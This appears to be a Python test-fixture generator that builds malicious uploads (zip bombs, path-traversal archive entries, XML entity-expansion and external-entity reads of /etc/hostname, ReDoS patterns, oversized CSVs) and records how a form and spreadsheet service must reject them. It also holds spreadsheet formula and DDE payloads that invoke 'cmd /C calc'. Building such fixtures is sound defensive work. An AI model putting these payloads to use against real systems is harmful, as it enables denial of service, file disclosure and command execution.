"""Files that somebody made to do harm, each with the door it comes to and what is to be said of it.

    PYTHONPATH=app:tests python -m hostile.make FOLDER

Nothing of them is kept in the repository: they are made here. `taken` means that it is read as what it shows, and that
what was meant by it does not happen.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import NamedTuple

TAKEN = "taken"


class Hostile(NamedTuple):
    """One file: the door it is brought to (see `doors`), how it is called, and the code it is refused under."""

    door: str
    name: str
    make: Callable[[], bytes]
    code: str


ALL: list[Hostile] = []


def hostile(door: str, name: str, code: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Add what a function makes to the collection."""

    def add(make: Callable[[], bytes]) -> Callable[[], bytes]:
        ALL.append(Hostile(door, name, make, code))
        return make

    return add


# ---- workbooks ----------------------------------------------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
DECLARED = '<?xml version="1.0" encoding="UTF-8"?>'
HEAD = '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>'


def sheet_part(rows: str = HEAD, declared: str = "A1", before: str = "") -> str:
    return (
        f'{DECLARED}{before}<worksheet xmlns="{MAIN}"><dimension ref="{declared}"/>'
        f"<sheetData>{rows}</sheetData></worksheet>"
    )


def parts(sheets: int = 1, **changed: str) -> dict[str, str | bytes]:
    """Return the parts of a workbook by name; `sheet` and `strings` can be given."""
    sheet = changed.get("sheet", sheet_part())
    listed = "".join(f'<sheet name="s{at}" sheetId="{at}" r:id="r{at}"/>' for at in range(1, sheets + 1))
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    worksheets = {f"xl/worksheets/sheet{at}.xml": sheet for at in range(1, sheets + 1)}
    overrides = "".join(f'<Override PartName="/{name}" ContentType="{kind}.worksheet+xml"/>' for name in worksheets)
    links = "".join(
        f'<Relationship Id="r{at}" Type="{RELATIONS}/worksheet" Target="worksheets/sheet{at}.xml"/>'
        for at in range(1, sheets + 1)
    )
    found: dict[str, str | bytes] = {
        "[Content_Types].xml": f'{DECLARED}<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}.sharedStrings+xml"/>{overrides}</Types>',
        "_rels/.rels": f'{DECLARED}<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": changed.get("workbook")
        or f'{DECLARED}<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets>{listed}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{DECLARED}<Relationships xmlns="{PACKAGE}/relationships">{links}'
        f'<Relationship Id="rs" Type="{RELATIONS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/sharedStrings.xml": changed.get("strings") or f'{DECLARED}<sst xmlns="{MAIN}"/>',
        **worksheets,
    }
    return found


def zipped(entries: Mapping[str, str | bytes], level: int = 9) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return made.getvalue()


ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10)) + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'


@hostile("sheets", "bomb-ratio.xlsx", "workbook.too-large")
def _() -> bytes:
    return zipped(parts(sheet=sheet_part(HEAD + " " * 40_000_000)))


@hostile("sheets", "bomb-size.xlsx", "workbook.too-large")
def _() -> bytes:
    return zipped(parts() | {"xl/media/image1.bin": bytes(300_000_000)}, level=1)


@hostile("sheets", "entries-10000.xlsx", "workbook.too-large")
def _() -> bytes:
    return zipped(parts() | {f"xl/media/{at}.bin": b"" for at in range(10_000)})


@hostile("sheets", "entries-400000.xlsx", "workbook.too-large")
def _() -> bytes:
    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, 8, 0, 0, 0, 0, 0, 0) + b"aaaaaaaa"
    count = 400_000
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count & 0xFFFF, count & 0xFFFF, len(entry) * count, 0, 0)
    return entry * count + end


@hostile("sheets", "zip64.xlsx", "workbook.too-large")
def _() -> bytes:
    good = zipped(parts())
    end = good.rindex(b"PK\5\6")
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 1 << 30, 1 << 30, 1 << 40, 0)
    return good[:end] + record + struct.pack("<4sLQL", b"PK\6\7", 0, end, 1) + good[end:]


@hostile("sheets", "names-twice.xlsx", "workbook.unsafe")
def _() -> bytes:
    made = io.BytesIO(zipped(parts()))
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("XL/WORKSHEETS/sheet1.xml", sheet_part())
    return made.getvalue()


def with_name(name: str) -> bytes:
    return zipped(parts() | {name: b"x"})


for _name, _label in (
    ("../../evil.xml", "up"),
    ("..\\..\\evil.xml", "up-in-windows"),
    ("/etc/evil.xml", "from-the-root"),
    ("C:\\evil.xml", "drive"),
    ("xl/evil.xml:stream", "stream"),
    ("xl/\u202elmx.live", "backwards"),
    ("xl/a\x07b.xml", "control"),
):
    ALL.append(Hostile("sheets", f"name-{_label}.xlsx", lambda name=_name: with_name(name), "workbook.unsafe"))  # type: ignore[misc]


@hostile("sheets", "encrypted.xlsx", "workbook.password-protected")
def _() -> bytes:
    data = bytearray(zipped(parts()))
    place = data.index(b"PK\1\2")
    data[place + 8] |= 1
    return bytes(data)


@hostile("sheets", "ole-encrypted.xls", "workbook.password-protected")
def _() -> bytes:
    return bytes.fromhex("D0CF11E0A1B11AE1") + bytes(2000) + "EncryptedPackage".encode("utf-16-le") + bytes(2000)


@hostile("sheets", "ole-nonsense.xls", "workbook.unreadable")
def _() -> bytes:
    return bytes.fromhex("D0CF11E0A1B11AE1") + random.Random(1).randbytes(3_000_000)


@hostile("sheets", "doctype-workbook.xlsx", "workbook.unsafe")
def _() -> bytes:
    return zipped(parts(workbook=f'{DECLARED}<!DOCTYPE workbook><workbook xmlns="{MAIN}"/>'))


@hostile("sheets", "entities.xlsx", "workbook.unsafe")
def _() -> bytes:
    return zipped(parts(sheet=sheet_part(HEAD.replace("姓名", "&a9;"), before=ENTITIES)))


@hostile("sheets", "outside-file.xlsx", "workbook.unsafe")
def _() -> bytes:
    strings = f'{DECLARED}{OUTSIDE}<sst xmlns="{MAIN}"><si><t>&e;</t></si></sst>'
    return zipped(parts(strings=strings))


@hostile("sheets", "doctype-utf16.xlsx", "workbook.unsafe")
def _() -> bytes:
    part = sheet_part(before=OUTSIDE).replace("UTF-8", "UTF-16")
    return zipped(parts() | {"xl/worksheets/sheet1.xml": part.encode("utf-16")})


@hostile("sheets", "deep.xlsx", TAKEN)
def _() -> bytes:
    return zipped(parts(sheet=sheet_part("<row>" * 20_000 + "</row>" * 20_000)), level=0)


@hostile("sheets", "no-xml.xlsx", "workbook.unreadable")
def _() -> bytes:
    return zipped(parts(sheet="<worksheet"))


@hostile("sheets", "cut.xlsx", "workbook.unreadable")
def _() -> bytes:
    return zipped(parts())[:-200]


@hostile("sheets", "claims-less.xlsx", "workbook.unreadable")
def _() -> bytes:
    data = bytearray(zipped(parts(sheet=sheet_part(HEAD + " " * 9_000_000))))
    for magic, offset in ((b"PK\1\2", 24), (b"PK\3\4", 22)):
        place = -1
        while (place := data.find(magic, place + 1)) >= 0:
            if struct.unpack_from("<L", data, place + offset)[0] > 1_000_000:
                struct.pack_into("<L", data, place + offset, 600)
    return bytes(data)


@hostile("sheets", "sheets-60.xlsx", "workbook.too-large")
def _() -> bytes:
    return zipped(parts(sheets=60))


@hostile("sheets", "rows-300000.xlsx", "workbook.too-large")
def _() -> bytes:
    draw = random.Random(2)
    rows = "".join(f'<row r="{at}"><c r="A{at}"><v>{draw.randrange(10**9)}</v></c></row>' for at in range(1, 300_001))
    return zipped(parts(sheet=sheet_part(rows)), level=1)


@hostile("sheets", "declares-everything.xlsx", TAKEN)
def _() -> bytes:
    return zipped(parts(sheet=sheet_part(declared="A1:XFD1048576")))


@hostile("sheets", "last-row.xlsx", TAKEN)
def _() -> bytes:
    return zipped(parts(sheet=sheet_part(HEAD + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')))


@hostile("sheets", "formulas.xlsx", TAKEN)
def _() -> bytes:
    cells = '<c r="A2"><f>WEBSERVICE("http://example.invalid/"&amp;A1)</f></c><c r="B2"><f>cmd|\' /C calc\'!A0</f></c>'
    return zipped(parts(sheet=sheet_part(f'{HEAD}<row r="2">{cells}</row>')))


@hostile("sheets", "macro.xlsm", TAKEN)
def _() -> bytes:
    return zipped(parts() | {"xl/vbaProject.bin": bytes.fromhex("D0CF11E0A1B11AE1") + b"Auto_Open" * 100})


@hostile("sheets", "external-link.xlsx", TAKEN)
def _() -> bytes:
    link = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    return zipped(parts() | {"xl/externalLinks/externalLink1.xml": link})


@hostile("sheets", "strings-flood.xlsx", TAKEN)
def _() -> bytes:
    # as many as a workbook may have that is read without a second process, and nothing that packs well
    draw = random.Random(3)
    strings = "".join(f"<si><t>{draw.randrange(10**6)}</t></si>" for _ in range(30_000))
    return zipped(parts(strings=f'{DECLARED}<sst xmlns="{MAIN}">{strings}</sst>'))


# ---- flat files ---------------------------------------------------------------------------------------------------


@hostile("sheets", "nul.csv", "flatfile.unreadable")
def _() -> bytes:
    return "姓名,电话\n卓玛\0,1\n".encode()


@hostile("sheets", "one-line.csv", "flatfile.too-large")
def _() -> bytes:
    return b"a" * 20_000_000


@hostile("sheets", "commas.csv", "flatfile.too-large")
def _() -> bytes:
    return b"," * 30_000_000


@hostile("sheets", "open-quote.csv", "flatfile.too-large")
def _() -> bytes:
    return b'a,b\n1,"' + b"x\n" * 1_500_000


@hostile("sheets", "quotes-and-lines.csv", "flatfile.too-large")
def _() -> bytes:
    return b"a,b\n" + b'"\n",' * 500_000


@hostile("sheets", "long-field.csv", "flatfile.unreadable")
def _() -> bytes:
    return b'a,b\n"' + b"x" * 200_000 + b'",1\n'


@hostile("sheets", "no-encoding.csv", "flatfile.unreadable")
def _() -> bytes:
    return "姓名,电话\n".encode() + b"\xff\xff\x81\n" * 1000


@hostile("sheets", "half-utf16.csv", "flatfile.unreadable")
def _() -> bytes:
    return "\ufeff姓名,电话\n".encode("utf-16-le")[:-1]


@hostile("sheets", "too-large.csv", "flatfile.too-large")
def _() -> bytes:
    return b"1,2,3,4\n" * 6_500_000


@hostile("sheets", "rows.csv", "flatfile.too-large")
def _() -> bytes:
    return b"a\n" * 300_000


# ---- forms --------------------------------------------------------------------------------------------------------

FORM = (
    '<h:html xmlns="http://www.w3.org/2002/xforms" xmlns:h="http://www.w3.org/1999/xhtml">'
    "<h:head><h:title>t</h:title><model>{model}</model></h:head><h:body>{body}</h:body></h:html>"
)


def xform(questions: str = "<a/>", binds: str = "", body: str = "", more: str = "") -> bytes:
    instance = f'<instance><data id="t" version="1">{questions}<meta><instanceID/></meta></data></instance>'
    return FORM.format(model=instance + more + binds, body=body).encode()


def calculating(expression: str, questions: str = "<a/><b/>") -> bytes:
    escaped = expression.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return xform(questions, f'<bind nodeset="/data/a" calculate="{escaped}"/>')


@hostile("form", "entities.xml", "forms.xml-with-doctype")
def _() -> bytes:
    return (ENTITIES + xform().decode().replace("<a/>", "<a>&a9;</a>")).encode()


@hostile("form", "outside-file.xml", "forms.xml-with-doctype")
def _() -> bytes:
    return (OUTSIDE + xform().decode()).encode("utf-16")


@hostile("form", "deep.xml", "forms.not-xml")
def _() -> bytes:
    return xform("<g>" * 200_000 + "</g>" * 200_000)


@hostile("form", "groups-60-deep.xml", "forms.xml-too-deep")
def _() -> bytes:
    return xform("".join(f"<g{at}>" for at in range(60)) + "".join(f"</g{at}>" for at in reversed(range(60))))


@hostile("form", "tags.xml", "forms.xml-too-full")
def _() -> bytes:
    return xform("<a/>" * 5_000_000)


@hostile("form", "too-large.xml", "forms.xml-too-large")
def _() -> bytes:
    return xform("<a>" + "x" * (33 << 20) + "</a>")


@hostile("form", "questions-9000.xml", "forms.refused")
def _() -> bytes:
    return xform("".join(f"<q{at}/>" for at in range(9_000)))


@hostile("form", "cycle.xml", "forms.refused")
def _() -> bytes:
    binds = '<bind nodeset="/data/a" calculate="/data/b + 1"/><bind nodeset="/data/b" calculate="/data/a + 1"/>'
    return xform("<a/><b/>", binds)


@hostile("form", "parentheses.xml", "forms.refused")
def _() -> bytes:
    return calculating("(" * 5_000 + "1" + ")" * 5_000)


@hostile("form", "everywhere.xml", "forms.refused")
def _() -> bytes:
    return calculating("count(//b[count(//b[count(//b) > 0]) > 0])")


@hostile("form", "long-expression.xml", "forms.refused")
def _() -> bytes:
    return calculating(" + ".join(["1"] * 100_000))


@hostile("entry", "regex-bomb.xml", TAKEN)
def _() -> bytes:
    return calculating(f"regex('{'a' * 5000}!', '^(a+)+$')")


@hostile("entry", "regex-large.xml", "forms.refused")
def _() -> bytes:
    return calculating("regex('aaaa', '((a{0,100}){0,100}){0,100}')")


@hostile("entry", "product.xml", "forms.too-many-steps")
def _() -> bytes:
    rows = "".join(f"<item><n>{at}</n></item>" for at in range(3_000))
    inner = "instance('t')/root/item"
    return xform(
        "<a/>",
        f'<bind nodeset="/data/a" calculate="count({inner}[count({inner}[n &gt; 1]) &gt; 0])"/>',
        more=f'<instance id="t"><root>{rows}</root></instance>',
    )


@hostile("form", "nonsense.xlsx", "forms.not-a-spreadsheet")
def _() -> bytes:
    return random.Random(4).randbytes(100_000)


@hostile("form", "bomb.xlsx", "forms.spreadsheet-suspicious")
def _() -> bytes:
    return zipped(parts(sheet=sheet_part(HEAD + " " * 40_000_000)))


@hostile("form", "entries.xlsx", "forms.spreadsheet-too-large")
def _() -> bytes:
    return zipped(parts() | {f"xl/media/{at}.bin": b"" for at in range(1_000)})


@hostile("form", "names.xlsx", "forms.spreadsheet-suspicious")
def _() -> bytes:
    return with_name("../../evil.xml")


@hostile("form", "doctype.xlsx", "forms.xml-with-doctype")
def _() -> bytes:
    return zipped(parts(sheet=sheet_part(before=ENTITIES)))


@hostile("form", "choices-300000.xlsx", "forms.spreadsheet-too-large")
def _() -> bytes:
    draw = random.Random(5)
    rows = "".join(f'<row r="{at}"><c r="A{at}"><v>{draw.randrange(10**9)}</v></c></row>' for at in range(1, 300_001))
    return zipped(parts(sheet=sheet_part(rows)), level=1)


def markdown(survey: list[tuple[str, str, str]]) -> bytes:
    lines = ["| survey |", "| | type | name | label |", *(f"| | {' | '.join(row)} |" for row in survey)]
    return "\n".join(lines).encode()


@hostile("form", "groups-600.md", "forms.spreadsheet-too-large")
def _() -> bytes:
    begins = [("begin group", f"g{at}", "g") for at in range(600)]
    return markdown([*begins, ("text", "a", "a"), *[("end group", "", "")] * 600])


@hostile("form", "questions-6000.md", "forms.spreadsheet-too-large")
def _() -> bytes:
    return markdown([("text", f"q{at}", "q") for at in range(6_000)])


@hostile("form", "long-cell.md", "forms.spreadsheet-too-large")
def _() -> bytes:
    return markdown([("text", "a", "x" * 40_000)])


@hostile("form", "itself.md", "forms.refused")
def _() -> bytes:
    lines = ["| survey |", "| | type | name | label | calculation |", "| | calculate | a | | ${a} + 1 |"]
    return "\n".join(lines).encode()


from hostile import make_pictures, make_sealed  # noqa: E402  (they stand beside, and need what stands above)

ALL += [Hostile(*one) for one in (*make_sealed.FILES, *make_pictures.FILES)]


def main() -> None:
    """Write every file into a folder."""
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for one in ALL:
        write(folder, one)


def write(folder: Path, one: Hostile) -> Path:
    """Write one file and return where it is."""
    path = folder / f"{one.door}-{one.name}"
    path.write_bytes(one.make())
    return path


if __name__ == "__main__":
    main()
